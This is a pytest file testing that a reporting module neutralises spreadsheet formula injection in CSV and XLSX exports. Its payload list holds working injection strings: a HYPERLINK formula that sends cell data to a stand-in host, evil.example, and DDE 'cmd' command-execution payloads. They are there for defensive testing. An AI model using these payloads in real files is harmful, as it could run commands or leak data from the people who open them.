"""Spreadsheet formula injection in reporting's exports (issue 9, Security 3): a text cell starting with
``= + - @`` (or tab / CR) is neutralised in CSV and written as a string, never a formula, in XLSX."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest

from reporting import exports

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def _league(name: str) -> dict:
    row = {c: None for c in exports.LEAGUE_COLUMNS} | {"rank": 1, "estate": name, "estate_name": name,
                                                       "region": name, "units": 10, "received": -3}
    return {"from": "2026-11-01", "to": "2026-11-30", "rows": [row]}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_cannot_start_a_formula(payload):
    out = exports.render("league_table", "csv", _league(payload), "zh_CN")
    rows = list(csv.reader(io.StringIO(out["content"].decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell != "-3" for cell in cells), cells
    assert "'" + payload in cells  # shown to the reader, prefixed with a quote
    assert "-3" in cells  # numbers stay numbers (a negative count is not text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_cells_are_strings_never_formulas(payload):
    from openpyxl import load_workbook

    content = exports.render("league_table", "xlsx", _league(payload), "en")["content"]
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    ws = load_workbook(io.BytesIO(content)).active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert payload.strip("\t\r") in "".join(str(v) for v in values)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_a_dangerous_kpi_note_is_neutralised_in_csv():
    assert exports.safe_text("=1+1") == "'=1+1" and exports.safe_text("ok") == "ok"
